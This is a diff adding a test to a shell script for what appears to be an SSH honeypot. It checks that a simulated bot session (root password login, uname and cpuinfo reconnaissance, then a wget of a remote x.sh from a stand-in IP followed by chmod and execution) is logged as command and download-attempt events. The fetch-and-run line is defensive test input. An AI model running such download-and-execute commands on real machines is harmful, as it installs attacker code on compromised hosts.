@@ -103,6 +103,27 @@ pty=$(events " ssh - pty_request " | tail -n 1)
 [ -n "$(param term <<<"$pty")" ] || fail "pty_request not logged: $pty"
 echo "ok: ssh -tt interactive shell (TERM $(param term <<<"$pty"))"
 
+# --- the usual bot session, typed into an interactive shell: every step an event
+before=$(events " ssh - command " | wc -l)
+out=$(timeout 60 sshpass -p hunter2 ssh -tt "${SSHO[@]}" root@127.0.0.1 2>&1 <<'SH'
+uname -a; cat /proc/cpuinfo | grep -c processor
+cd /tmp; wget http://198.51.100.5/x.sh; chmod +x x.sh; ./x.sh
+exit
+SH
+) || true  # `exit` keeps the status of the failed ./x.sh (127), as bash does
+grep -q 'Linux ' <<<"$out" || fail "bot session uname: $out"
+sleep 0.3
+cmds=$(events " ssh - command " | tail -n +$((before + 1)))
+for step in 'uname -a; cat /proc/cpuinfo | grep -c processor' \
+            'cd /tmp; wget http://198.51.100.5/x.sh; chmod +x x.sh; ./x.sh' 'exit'; do
+  grep -qF "input=\"$step\"" <<<"$cmds" || fail "bot step not logged: $step ($cmds)"
+done
+dl=$(events " ssh - file_download_attempt " | tail -n 1)
+[ "$(param url <<<"$dl")" = "http://198.51.100.5/x.sh" ] || fail "download attempt: $dl"
+[ "$(param cwd <<<"$dl")" = /tmp ] || fail "download cwd: $dl"
+grep -q 'x.sh: Permission denied\|x.sh: No such file' <<<"$out" || fail "./x.sh without a file: $out"
+echo "ok: bot session (uname, cpuinfo, cd /tmp, wget, chmod, ./x.sh): each line a command event, the URL a download attempt"
+
 # --- every implemented algorithm once
 algo() {  # label, then ssh options
   local label=$1; shift
